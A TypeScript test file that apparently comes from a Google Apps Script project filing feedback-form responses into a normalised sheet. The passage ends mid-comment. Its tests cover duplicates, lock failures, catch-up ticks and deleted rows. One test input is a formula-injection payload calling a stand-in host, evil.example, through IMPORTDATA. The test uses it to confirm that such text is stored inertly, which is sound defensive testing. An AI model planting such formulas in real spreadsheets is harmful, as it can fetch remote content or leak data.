// Each response filed as one normalised Feedback row (issue 6), end to end: a person submits in the
// browser with `ws.forms.respond`, the trigger's event is delivered to `onFeedbackSubmit`; the
// catalogue of odd responses, what one response costs in service calls whatever the size of
// Feedback, and the hourly tick filing what the trigger missed (issue 12, defect 7).
import fc from 'fast-check';
import { fileMissedResponses, onFeedbackSubmit } from '../../src/app/feedback-responses';
import { CATCH_UP_ROWS } from '../../src/core/feedback-catch-up';
import { refreshDashboardIfStale } from '../../src/app/dashboard';
import type { Workspace } from '../../src/local/emulation';
import { confirmRotation, planRotation } from '../../src/app/plan';
import { onTick } from '../../src/app/tick';
import { groupCode, question } from '../../src/core/feedback-form';
import { FEEDBACK } from '../../src/core/schema';
import { UserError } from '../../src/core/errors';
import { execution, useWorkspace } from '../support/workspace';
import { type Answer, program, sheetValues, properties, feedback, responsesSheetId, tick, respond, deliver, submit, withForm, useFakeClock } from './feedback-fixtures';

useFakeClock();

// ---- Responses ---------------------------------------------------------------------------------------

describe('onFeedbackSubmit', () => {
  it('files a response as one normalised row, and leaves the responses sheet as Google wrote it', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    const [me, partner] = g.members;
    const responsesBefore = (() => {
      respond(ws, { email: 'm9@example.com', at: '2027-01-05T12:00:00Z' }); // not delivered: nobody else files it
      return sheetValues(ws, 'Form Responses 1');
    })();
    const deliveries = respond(ws, { email: me, at: '2027-01-12T11:00:00Z', code: code(g), session: '2', met: 'Yes', ratings: [4, 5, 3], workedOn: 'Delegation', commitment: 'Ask two questions first' });
    const sheetAfterGoogle = sheetValues(ws, 'Form Responses 1');
    expect(sheetAfterGoogle.values).toHaveLength(responsesBefore.values.length + 1);
    const outcome = deliver(ws, deliveries[0]);
    const key = `${responsesSheetId(ws)}!3@2027-01-12T11:00:00Z`;
    expect(outcome).toEqual({ status: 'added', key, row: 2, flag: '' });
    expect(sheetValues(ws, 'Form Responses 1')).toEqual(sheetAfterGoogle);

    const rows = feedback(ws);
    expect(rows).toHaveLength(1);
    const nameOf = (email: string) => `Manager ${email.slice(1, email.indexOf('@'))}`;
    expect(rows[0].display).toEqual({
      Submitted: '2027-01-12 11:00',
      Cycle: '1',
      Group: g.group,
      Session: '2',
      Respondent: nameOf(me),
      Email: me,
      Partners: nameOf(partner),
      Met: 'Yes',
      Relationship: '4',
      Coaching: '5',
      Accountability: '3',
      Pairing: '',
      'Worked on': 'Delegation',
      Commitment: 'Ask two questions first',
      'Next cycle': '',
      Flag: '',
      Key: key,
    });
    expect(rows[0].value.Submitted).toEqual(new Date('2027-01-12T11:00:00Z'));
    expect(rows[0].value.Relationship).toBe(4);
  });

  describe('the catalogue of odd responses', () => {
    it('an unknown email: kept, no respondent name, flagged', () => {
      const { ws, groups: gs, code } = withForm();
      expect(submit(ws, { email: 'stranger@elsewhere.org', at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [3, 3, 3] })).toMatchObject({
        status: 'added',
        flag: `unknown respondent; not a member of ${gs[0].group}`,
      });
      const [row] = feedback(ws);
      expect(row.display).toMatchObject({ Respondent: '', Email: 'stranger@elsewhere.org', Group: gs[0].group, Partners: gs[0].members.map((m) => `Manager ${m.slice(1, m.indexOf('@'))}`).join(', ') });
    });

    it('a blank group code: the group is found from the email and the date, and the session from the date', () => {
      const { ws, groups: gs } = withForm();
      const g = gs[1];
      expect(submit(ws, { email: g.members[1], at: '2027-01-20T09:00:00Z', ratings: [5, 5, 5] })).toMatchObject({ status: 'added', flag: '' });
      expect(feedback(ws)[0].display).toMatchObject({ Group: g.group, Session: '3', Cycle: '1' });
    });

    it('a group code of another program: flagged, and the group found from the email and the date', () => {
      const { ws, groups: gs } = withForm();
      const g = gs[0];
      const foreign = groupCode('another-program', g.group);
      const outcome = submit(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: foreign, ratings: [4, 4, 4] });
      expect(outcome).toMatchObject({ status: 'added', flag: `group code of another program (${foreign})` });
      expect(feedback(ws)[0].display.Group).toBe(g.group);
    });

    it('a group code of another cycle: the group is kept and the response flagged', () => {
      const { ws, groups: gs, code } = withForm();
      const g = gs[0];
      // Cycle 2, two weeks after cycle 1 ended; an old invitation's link.
      const preview = execution(ws, () => planRotation({ seed: 'fixed' }));
      expect(execution(ws, () => confirmRotation(preview)).status).toBe('confirmed');
      expect(g.ends).toBe('2027-02-15');
      const outcome = submit(ws, { email: g.members[0], at: '2027-03-01T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
      expect(outcome).toMatchObject({ status: 'added', flag: `group ${g.group} is from cycle 1, which ended on 2027-02-15` });
      expect(feedback(ws)[0].display).toMatchObject({ Group: g.group, Cycle: '1' });
    });

    it('the same delivery twice gives one row (and the duplicate writes nothing)', () => {
      const { ws, groups: gs, code } = withForm();
      const [d] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
      expect(deliver(ws, d)).toMatchObject({ status: 'added', row: 2 });
      ws.ledger.reset();
      expect(deliver(ws, d)).toEqual({ status: 'duplicate', key: `${responsesSheetId(ws)}!2@2027-01-12T11:00:00Z`, row: 2 });
      expect(ws.ledger.count('Range.setValues') + ws.ledger.count('Range.setNumberFormats')).toBe(0);
      // A duplicate costs 22 calls: everything up to the key lookup (the row's timestamp is part of
      // the key), and the found cell's row.
      expect(ws.ledger.snapshot()).toEqual({
        'SpreadsheetApp.flush': 1, // before the lock is released
        'Lock.releaseLock': 1,
        'Lock.tryLock': 1,
        'LockService.getDocumentLock': 1,
        'Properties.getProperties': 1,
        'PropertiesService.getDocumentProperties': 1,
        'Range.createTextFinder': 1,
        'Range.getDisplayValues': 1,
        'Range.getRow': 2,
        'Range.getSheet': 1,
        'Range.getValues': 1,
        'Sheet.getLastColumn': 1,
        'Sheet.getLastRow': 1,
        'Sheet.getRange': 2,
        'Sheet.getSheetId': 1,
        'Spreadsheet.getSheetById': 1,
        'SpreadsheetApp.getActiveSpreadsheet': 1,
        'TextFinder.findNext': 1,
        'TextFinder.matchCase': 1,
        'TextFinder.matchEntireCell': 1,
      });
      expect(feedback(ws)).toHaveLength(1);
      // A later response is a new row.
      expect(submit(ws, { email: gs[0].members[1], at: '2027-01-12T12:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] })).toMatchObject({ status: 'added', row: 3 });
      expect(feedback(ws)).toHaveLength(2);
    });

    it.each([
      ['=IMPORTDATA("https://evil.example/x")', '@channel ping'],
      ['+1 call each week', '-5 minutes of small talk'],
      ['-5', '=1+1'],
    ])('texts starting with =, +, -, @ stay text: %s / %s', (workedOn, commitment) => {
      const { ws, groups: gs, code } = withForm();
      submit(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4], workedOn, commitment });
      const [row] = feedback(ws);
      expect(row.formulas.every((f) => f === '')).toBe(true);
      expect(row.value['Worked on']).toBe(workedOn);
      expect(row.value.Commitment).toBe(commitment);
      expect(row.display['Worked on']).toBe(workedOn);
      const formats = sheetValues(ws, 'Feedback').formats[1];
      const at = (h: string) => FEEDBACK.columns.findIndex((c) => c.header === h);
      expect([formats[at('Worked on')], formats[at('Commitment')], formats[at('Flag')], formats[at('Key')]]).toEqual(['@', '@', '@', '@']);
    });

    it('missing ratings: blank cells (never 0), flagged', () => {
      const { ws, groups: gs, code } = withForm();
      expect(submit(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), met: 'Yes', ratings: [4, '', ''] })).toMatchObject({
        flag: 'no rating for Coaching, Accountability',
      });
      const [row] = feedback(ws);
      expect([row.value.Relationship, row.value.Coaching, row.value.Accountability]).toEqual([4, '', '']);
    });

    it('“did not meet” with ratings: the ratings are kept and the response flagged', () => {
      const { ws, groups: gs, code } = withForm();
      expect(submit(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), met: 'No', ratings: [2, 3, 1] })).toMatchObject({
        flag: 'did not meet, but gave ratings',
      });
      const [row] = feedback(ws);
      expect(row.display).toMatchObject({ Met: 'No', Relationship: '2', Coaching: '3', Accountability: '1' });
    });

    it('a response after the cycle ended: kept for its group, flagged', () => {
      const { ws, groups: gs, code } = withForm();
      expect(submit(ws, { email: gs[0].members[0], at: '2027-02-18T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] })).toMatchObject({
        flag: 'sent after cycle 1 ended (on 2027-02-15)',
      });
      expect(feedback(ws)[0].display).toMatchObject({ Group: gs[0].group, Cycle: '1', Session: '6' });
      // Without a code, the late response still finds the group it belongs to.
      submit(ws, { email: gs[0].members[1], at: '2027-02-18T12:00:00Z', ratings: [4, 4, 4] });
      expect(feedback(ws)[1].display).toMatchObject({ Group: gs[0].group, Flag: 'sent after cycle 1 ended (on 2027-02-15)' });
    });

    it('a text over 50,000 characters is kept, cut with a visible marker naming the full answer’s row', () => {
      const { ws, groups: gs, code } = withForm();
      const base = { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] as [number, number, number] };
      // What the emulated responses sheet does: a cell holds 50,000 characters at most, so Google
      // cannot write a longer answer there, and no trigger fires for it.
      expect(() => respond(ws, { ...base, workedOn: 'x'.repeat(50_001) })).toThrow('Your input contains more than the maximum of 50000 characters in a single cell.');
      // 50,000 characters starting with "+" fit the responses sheet, but not with the apostrophe
      // that keeps them text: cut.
      const long = `+${'a'.repeat(49_999)}`;
      expect(submit(ws, { ...base, workedOn: long })).toMatchObject({ status: 'added', flag: '' });
      const [row] = feedback(ws);
      const cell = row.value['Worked on'] as string;
      expect(cell.length).toBeLessThanOrEqual(50_000);
      expect(cell.startsWith('+aaa')).toBe(true);
      expect(cell).toMatch(/… \[cut: \d+ more characters; the full answer is in Form Responses 1 row 2\]$/);
      expect(row.formulas.every((f) => f === '')).toBe(true);
      // An event carrying a longer answer than a cell holds (Google's event is not bound by the sheet).
      const [d] = respond(ws, { ...base, workedOn: 'short' });
      const event = { ...d.event, namedValues: { ...d.event.namedValues, [question('workedOn').title]: ['y'.repeat(60_000)] } };
      expect(execution(ws, () => onFeedbackSubmit(event))).toMatchObject({ status: 'added', row: 3 });
      const second = feedback(ws)[1].value['Worked on'] as string;
      expect(second).toHaveLength(50_000);
      expect(second).toMatch(/^y+… \[cut: 10,0\d\d more characters; the full answer is in Form Responses 1 row 3\]$/);
    });
  });

  it('a renamed Feedback sheet is found by its id; a deleted one is recreated, laid out, and remembered', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Feedback')!.setName('Responses (clean)'));
    submit(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
    expect(ws.spreadsheet.getSheetByName('Feedback')).toBeNull();
    expect(feedback(ws, 'Responses (clean)')).toHaveLength(1);

    ws.ledger.untracked(() => ws.spreadsheet.deleteSheet(ws.spreadsheet.getSheetByName('Responses (clean)')!));
    expect(submit(ws, { email: g.members[1], at: '2027-01-12T12:00:00Z', code: code(g), ratings: [3, 3, 3] })).toMatchObject({ status: 'added', row: 2 });
    const made = ws.spreadsheet.getSheetByName('Feedback')!;
    const { values, formats } = sheetValues(ws, 'Feedback');
    expect(values[0]).toEqual(FEEDBACK.columns.map((c) => c.header));
    expect(values).toHaveLength(2);
    expect(formats[1][2]).toBe('@');
    expect(made.getFrozenRows()).toBe(1);
    expect(JSON.parse(properties(ws)['program.sheetIds']).Feedback).toBe(made.getSheetId());
    // The form's responses are all still in its own sheet.
    expect(sheetValues(ws, 'Form Responses 1').values).toHaveLength(3);
  });

  it('a response of another form in the same spreadsheet is ignored', () => {
    const { ws } = withForm();
    const other = ws.ledger.untracked(() => {
      const form = ws.globals.FormApp.create('Team lunch');
      form.addTextItem().setTitle('Your group code');
      form.setDestination(ws.globals.FormApp.DestinationType.SPREADSHEET, ws.spreadsheet.getId());
      return form.getId();
    });
    const deliveries = ws.forms.respond(other, { answers: { 'Your group code': 'pizza' }, at: new Date('2027-01-12T11:00:00Z') });
    expect(deliveries).toHaveLength(1);
    expect(deliver(ws, deliveries[0])).toEqual({ status: 'ignored', reason: 'a response of another form' });
    expect(feedback(ws)).toHaveLength(0);
  });

  it('refuses what is not a form-submit event, calling no service', () => {
    const { ws, groups: gs, code } = withForm();
    const [d] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    const garbage: Array<[unknown, string]> = [
      [undefined, 'not a form-submit event'],
      [null, 'not a form-submit event'],
      [42, 'not a form-submit event'],
      ['Form Responses 1!2', 'not a form-submit event'],
      [[d.event], 'not a form-submit event'],
      [{}, 'the event has no namedValues'],
      [{ namedValues: [] }, 'the event has no namedValues'],
      [{ namedValues: {}, range: d.event.range }, 'the event’s namedValues are not a form’s answers'],
      [{ namedValues: { Timestamp: [new Date()] }, range: d.event.range }, 'the answer to “Timestamp” is not text'],
      [{ namedValues: d.event.namedValues }, 'the event has no range'],
      [{ namedValues: d.event.namedValues, range: 'A2:K2' }, 'the event has no range'],
      [{ namedValues: d.event.namedValues, range: { getSheet: 1, getRow: 2, getValues: 3 } }, 'the event has no range'],
    ];
    ws.ledger.reset();
    for (const [event, reason] of garbage) {
      expect(execution(ws, () => onFeedbackSubmit(event as never))).toEqual({ status: 'ignored', reason });
    }
    expect(ws.ledger.count()).toBe(0);

    // Shaped like one but unreadable, or not a response row: refused under the lock, nothing written.
    const broken = { namedValues: d.event.namedValues, range: { getSheet: () => { throw new Error('gone'); }, getRow: () => 2, getValues: () => [[]] } };
    expect(execution(ws, () => onFeedbackSubmit(broken as never))).toEqual({ status: 'ignored', reason: 'the event’s range cannot be read' });
    const header = { ...d.event, range: d.event.range.getSheet().getRange(1, 1, 1, 3) };
    expect(execution(ws, () => onFeedbackSubmit(header))).toEqual({ status: 'ignored', reason: 'the event’s range is not a response row' });
    expect(feedback(ws)).toHaveLength(0);
    expect(ws.ledger.count('Range.setValues')).toBe(0);
    // The real event still files.
    expect(deliver(ws, d)).toMatchObject({ status: 'added' });
  });

  it('before the form exists, a form-submit event is ignored', () => {
    const ws = program();
    const form = ws.ledger.untracked(() => {
      const f = ws.globals.FormApp.create('Made by hand');
      f.addTextItem().setTitle('Anything');
      f.setDestination(ws.globals.FormApp.DestinationType.SPREADSHEET, ws.spreadsheet.getId());
      ws.globals.ScriptApp.newTrigger('onFeedbackSubmit').forSpreadsheet(ws.spreadsheet.peekId()).onFormSubmit().create();
      return f.getId();
    });
    const [d] = ws.forms.respond(form, { answers: { Anything: 'hello' } });
    expect(deliver(ws, d)).toEqual({ status: 'ignored', reason: 'there is no feedback form yet' });
  });

  it('while another execution holds the lock, the handler fails and the response waits in the responses sheet; a later delivery files it', () => {
    const { ws, groups: gs, code } = withForm();
    const [d] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    ws.otherExecution.holdDocumentLock();
    expect(() => deliver(ws, d)).toThrow(UserError);
    ws.otherExecution.releaseDocumentLock();
    expect(feedback(ws)).toHaveLength(0);
    expect(sheetValues(ws, 'Form Responses 1').values).toHaveLength(2);
    expect(deliver(ws, d)).toMatchObject({ status: 'added' });
  });

  it('a row Google reuses after the owner deleted rows in the responses sheet is a new response, not a duplicate', () => {
    const { ws, groups: gs, code } = withForm();
    const [first] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    expect(deliver(ws, first)).toMatchObject({ status: 'added', row: 2 });
    ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Form Responses 1')!.deleteRow(2));
    const [second] = respond(ws, { email: gs[0].members[1], at: '2027-01-13T11:00:00Z', code: code(gs[0]), ratings: [2, 2, 2] });
    expect(ws.ledger.untracked(() => second.event.range.getRow())).toBe(2); // Google's next free row: the same number
    expect(deliver(ws, second)).toMatchObject({ status: 'added', row: 3 });
    expect(deliver(ws, second)).toMatchObject({ status: 'duplicate', row: 3 });
    const rows = feedback(ws);
    expect(rows.map((r) => [r.display.Email, r.display.Relationship])).toEqual([
      [gs[0].members[0], '4'],
      [gs[0].members[1], '2'],
    ]);
    const id = responsesSheetId(ws);
    expect(rows.map((r) => r.value.Key)).toEqual([`${id}!2@2027-01-12T11:00:00Z`, `${id}!2@2027-01-13T11:00:00Z`]);
  });

  it('the key names the responses sheet by id: renamed between two deliveries, the response is still one row', () => {
    const { ws, groups: gs, code } = withForm();
    const [d] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    const key = `${responsesSheetId(ws)}!2@2027-01-12T11:00:00Z`;
    expect(deliver(ws, d)).toEqual({ status: 'added', key, row: 2, flag: '' });
    ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Form Responses 1')!.setName('Answers as Google wrote them'));
    expect(deliver(ws, d)).toEqual({ status: 'duplicate', key, row: 2 });
    expect(feedback(ws)).toHaveLength(1);
  });

  it.each([' Form Responses 1', '=Responses', "'Responses'", '+1 responses'])('a responses sheet named %j: the same delivery twice is one row', (name) => {
    const { ws, groups: gs, code } = withForm();
    ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Form Responses 1')!.setName(name));
    const [d] = respond(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    expect(deliver(ws, d)).toMatchObject({ status: 'added', row: 2 });
    expect(deliver(ws, d)).toMatchObject({ status: 'duplicate', row: 2 });
    expect(feedback(ws)).toHaveLength(1);
  });

  it('a response refused while another run held the lock is filed by the next hourly tick, exactly once', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    const [d] = respond(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), session: '2', ratings: [4, 5, 3], workedOn: '=Delegation' });
    ws.otherExecution.holdDocumentLock();
    expect(() => deliver(ws, d)).toThrow(UserError);
    ws.otherExecution.releaseDocumentLock();
    expect(feedback(ws)).toHaveLength(0);

    tick(ws);
    const rows = feedback(ws);
    expect(rows).toHaveLength(1);
    expect(rows[0].display).toMatchObject({
      Submitted: '2027-01-12 11:00',
      Cycle: '1',
      Group: g.group,
      Session: '2',
      Email: g.members[0],
      Met: 'Yes',
      Relationship: '4',
      Coaching: '5',
      Accountability: '3',
      'Worked on': '=Delegation',
      Flag: '',
      Key: `${responsesSheetId(ws)}!2@2027-01-12T11:00:00Z`,
    });
    expect(rows[0].formulas.every((f) => f === '')).toBe(true);

    // Nothing more: a second tick files nothing, a late redelivery is the duplicate.
    tick(ws);
    expect(feedback(ws)).toHaveLength(1);
    expect(deliver(ws, d)).toMatchObject({ status: 'duplicate', row: 2 });
    // A response filed by its trigger is not filed again by the tick.
    expect(submit(ws, { email: g.members[1], at: '2027-01-12T12:00:00Z', code: code(g), ratings: [3, 3, 3] })).toMatchObject({ status: 'added', row: 3 });
    tick(ws);
    expect(feedback(ws)).toHaveLength(2);
  });

  it('the tick also files a missed response in a row Google reused after the owner deleted rows', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    submit(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
    submit(ws, { email: g.members[1], at: '2027-01-12T12:00:00Z', code: code(g), ratings: [3, 3, 3] });
    tick(ws);
    expect(feedback(ws)).toHaveLength(2);
    ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Form Responses 1')!.deleteRows(2, 2));
    const [d] = respond(ws, { email: g.members[0], at: '2027-01-19T11:00:00Z', code: code(g), ratings: [5, 5, 5] });
    ws.otherExecution.holdDocumentLock();
    expect(() => deliver(ws, d)).toThrow(UserError);
    ws.otherExecution.releaseDocumentLock();
    tick(ws);
    expect(feedback(ws).map((r) => r.display.Relationship)).toEqual(['4', '3', '5']);
    tick(ws);
    expect(feedback(ws)).toHaveLength(3);
  });

  // ---- Deliberate deletions stay deleted (issue 12, defect 7) ----

  /** The owner deletes Feedback rows (1-based, header = 1). */
  const deleteFeedbackRows = (ws: Workspace, row: number, count = 1) => ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Feedback')!.deleteRows(row, count));
  /** The owner deletes rows of the responses sheet (Google then writes the next response into the first free row). */
  const deleteResponseRows = (ws: Workspace, row: number, count = 1) => ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Form Responses 1')!.deleteRows(row, count));
  /** A person responds while another run holds the document lock: the trigger fails, the response waits in the responses sheet. */
  const respondWhileLocked = (ws: Workspace, a: Answer) => {
    const [d] = respond(ws, a);
    ws.otherExecution.holdDocumentLock();
    expect(() => deliver(ws, d)).toThrow(UserError);
    ws.otherExecution.releaseDocumentLock();
    return d;
  };
  const emails = (ws: Workspace) => feedback(ws).map((r) => r.display.Email);

  it('a Feedback row the owner deleted does not come back at the next tick, nor at a late redelivery', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    const [first] = respond(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
    expect(deliver(ws, first)).toMatchObject({ status: 'added', row: 2 });
    expect(submit(ws, { email: g.members[1], at: '2027-01-12T12:00:00Z', code: code(g), ratings: [3, 3, 3] })).toMatchObject({ status: 'added', row: 3 });
    deleteFeedbackRows(ws, 2);
    tick(ws);
    tick(ws);
    expect(emails(ws)).toEqual([g.members[1]]);
    expect(deliver(ws, first)).toMatchObject({ status: 'duplicate', row: null });
    expect(emails(ws)).toEqual([g.members[1]]);
    // Later responses are filed as ever, once.
    expect(submit(ws, { email: g.members[0], at: '2027-01-19T11:00:00Z', code: code(g), ratings: [5, 5, 5] })).toMatchObject({ status: 'added', row: 3 });
    tick(ws);
    expect(emails(ws)).toEqual([g.members[1], g.members[0]]);
  });

  it('a row the tick filed and the owner then deleted does not come back either', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    const d = respondWhileLocked(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
    tick(ws);
    expect(emails(ws)).toEqual([g.members[0]]);
    deleteFeedbackRows(ws, 2);
    tick(ws);
    expect(feedback(ws)).toHaveLength(0);
    expect(deliver(ws, d)).toMatchObject({ status: 'duplicate', row: null });
    expect(feedback(ws)).toHaveLength(0);
  });

  it('a response whose trigger failed is still filed by the tick, beside one the owner deleted', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    respondWhileLocked(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
    expect(submit(ws, { email: g.members[1], at: '2027-01-12T12:00:00Z', code: code(g), ratings: [3, 3, 3] })).toMatchObject({ status: 'added', row: 2 });
    respondWhileLocked(ws, { email: g.members[1], at: '2027-01-12T13:00:00Z', code: code(g), ratings: [2, 2, 2] });
    deleteFeedbackRows(ws, 2);
    tick(ws);
    expect(feedback(ws).map((r) => [r.display.Email, r.display.Relationship])).toEqual([
      [g.members[0], '4'],
      [g.members[1], '2'],
    ]);
    tick(ws);
    expect(feedback(ws)).toHaveLength(2);
  });

  it('a response deleted from the responses sheet and a new one landing in its row: the new one is filed once', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    submit(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
    tick(ws);
    deleteResponseRows(ws, 2);
    // Its trigger files it: the tick does not file it again.
    expect(submit(ws, { email: g.members[1], at: '2027-01-13T11:00:00Z', code: code(g), ratings: [3, 3, 3] })).toMatchObject({ status: 'added', row: 3 });
    tick(ws);
    tick(ws);
    expect(emails(ws)).toEqual([g.members[0], g.members[1]]);
    // Again, and this time its trigger fails: the tick files it, once.
    deleteResponseRows(ws, 2);
    respondWhileLocked(ws, { email: g.members[0], at: '2027-01-19T11:00:00Z', code: code(g), ratings: [5, 5, 5] });
    expect(ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Form Responses 1')!.getLastRow())).toBe(2);
    tick(ws);
    tick(ws);
    expect(feedback(ws).map((r) => r.display.Relationship)).toEqual(['4', '3', '5']);
  });

  it('without a tick between: a response filed, its responses row deleted, a new one in its row, the owner deleting its Feedback row: nothing comes back, nothing is lost', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    submit(ws, { email: g.members[0], at: '2027-01-12T11:00:00Z', code: code(g), ratings: [4, 4, 4] });
    deleteResponseRows(ws, 2);
    expect(submit(ws, { email: g.members[1], at: '2027-01-13T11:00:00Z', code: code(g), ratings: [3, 3, 3] })).toMatchObject({ status: 'added', row: 3 });
    respondWhileLocked(ws, { email: g.members[0], at: '2027-01-14T11:00:00Z', code: code(g), ratings: [5, 5, 5] });
    deleteFeedbackRows(ws, 3);
    tick(ws);
    tick(ws);
    expect(feedback(ws).map((r) => r.display.Relationship)).toEqual(['4', '5']);
  });

  it('the tick’s feedback part costs no more calls than before when nothing arrived (idle)', () => {
    const { ws, groups: gs, code } = withForm();
    submit(ws, { email: gs[0].members[0], at: '2027-01-12T11:00:00Z', code: code(gs[0]), ratings: [4, 4, 4] });
    tick(ws);
    tick(ws);
    ws.ledger.reset();
    expect(execution(ws, fileMissedResponses)).toBe(0);
    const filing = ws.ledger.snapshot();
    ws.ledger.reset();
    expect(execution(ws, refreshDashboardIfStale)).toBe(false);
    const dashboard = ws.ledger.snapshot();
    const count = (c: Record<string, number>) => Object.values(c).reduce((a, b) => a + b, 0);
    console.log(`The tick's feedback part when idle: filing ${count(filing)} calls ${JSON.stringify(filing)}; dashboard ${count(dashboard)} calls`);
    // Before issue 12 the idle catch-up made 9 calls (the document lock's 3 among them) and the
    // dashboard check 9. Now the catch-up looks without the lock: no lock, no write.
    expect(filing).toEqual({
      'PropertiesService.getDocumentProperties': 1,
      'Properties.getProperties': 1,
      'Range.getValues': 1,
      'Sheet.getLastRow': 1,
      'Sheet.getRange': 1,
      'Spreadsheet.getSheetById': 1,
      'SpreadsheetApp.getActiveSpreadsheet': 1,
    });
    expect(count(filing) + count(dashboard)).toBeLessThanOrEqual(18);
    expect(count(dashboard)).toBe(9);
  });

  it('more missed responses than one catch-up files: the rest on the next tick, each once', () => {
    const { ws, groups: gs, code } = withForm();
    const g = gs[0];
    // Their triggers never ran (the deliveries are dropped).
    const start = Date.parse('2027-01-12T08:00:00Z');
    for (let i = 0; i < CATCH_UP_ROWS + 5; i++) respond(ws, { email: g.members[i % 2], at: new Date(start + i * 60_000).toISOString(), code: code(g), workedOn: `response ${i}` });
    expect(execution(ws, fileMissedResponses)).toBe(CATCH_UP_ROWS);
    expect(execution(ws, fileMissedResponses)).toBe(5);
    expect(execution(ws, fileMissedResponses)).toBe(0);
    expect(feedback(ws).map((r) => r.display['Worked on'])).toEqual(Array.from({ length: CATCH_UP_ROWS + 5 }, (_, i) => `response ${i}`));
  });

  it('whatever the owner deletes, and whichever triggers fail, between ticks: a response is filed at most once, a deleted Feedback row never comes back, and every response left in the responses sheet is filed (property)', () => {
    type Step = { kind: 'respond'; trigger: boolean } | { kind: 'deleteFeedback'; pick: number } | { kind: 'deleteResponses'; pick: number; count: number } | { kind: 'tick' };
    const step: fc.Arbitrary<Step> = fc.oneof(
      { weight: 4, arbitrary: fc.boolean().map((trigger): Step => ({ kind: 'respond', trigger })) },
      { weight: 1, arbitrary: fc.nat().map((pick): Step => ({ kind: 'deleteFeedback', pick })) },
      { weight: 1, arbitrary: fc.tuple(fc.nat(), fc.integer({ min: 1, max: 3 })).map(([pick, count]): Step => ({ kind: 'deleteResponses', pick, count })) },
      { weight: 2, arbitrary: fc.constant<Step>({ kind: 'tick' }) },
    );
    const base = withForm();
    const snapshot = base.ws.snapshot();
    fc.assert(
      fc.property(fc.array(step, { minLength: 1, maxLength: 14 }), (steps) => {
        const ws = useWorkspace({ snapshot });
        const g = base.groups[0];
        const column = (name: string, header: string) =>
          ws.ledger.untracked(() => {
            const sheet = ws.spreadsheet.getSheetByName(name)!;
            const values = sheet.getDataRange().getDisplayValues();
            const at = values[0].indexOf(header);
            return values.slice(1).map((r) => r[at]);
          });
        const filedIds = () => column('Feedback', 'Worked on');
        const responseIds = () => column('Form Responses 1', question('workedOn').title);
        const deletedFromFeedback = new Set<string>();
        let n = 0;
        for (const s of steps) {
          if (s.kind === 'respond') {
            const a = { email: g.members[n % 2], at: new Date(Date.parse('2027-01-12T08:00:00Z') + n * 60_000).toISOString(), code: base.code(g), workedOn: `r${n}` };
            n++;
            if (s.trigger) expect(submit(ws, a)).toMatchObject({ status: 'added' });
            else respondWhileLocked(ws, a);
          } else if (s.kind === 'deleteFeedback') {
            const ids = filedIds();
            if (ids.length === 0) continue;
            const k = s.pick % ids.length;
            deletedFromFeedback.add(ids[k]);
            deleteFeedbackRows(ws, k + 2);
          } else if (s.kind === 'deleteResponses') {
            const ids = responseIds();
            if (ids.length === 0) continue;
            const k = s.pick % ids.length;
            ws.ledger.untracked(() => ws.spreadsheet.getSheetByName('Form Responses 1')!.deleteRows(k + 2, Math.min(s.count, ids.length - k)));
          } else tick(ws);
          const filed = filedIds();
          expect(new Set(filed).size).toBe(filed.length); // never twice
          for (const id of deletedFromFeedback) expect(filed).not.toContain(id); // never back
        }
        tick(ws);
        const filed = filedIds();
        expect(new Set(filed).size).toBe(filed.length);
        for (const id of deletedFromFeedback) expect(filed).not.toContain(id);
        // Every response still in the responses sheet is in Feedback, unless the owner deleted its row there.
        for (const id of responseIds()) if (!deletedFromFeedback.has(id)) expect([id, filed.includes(id)]).toEqual([id, true]);
      }),
      { numRuns: 30 },
    );
  });

  // The ledger per response: what filing one response costs, by kind. The same for 10 and for
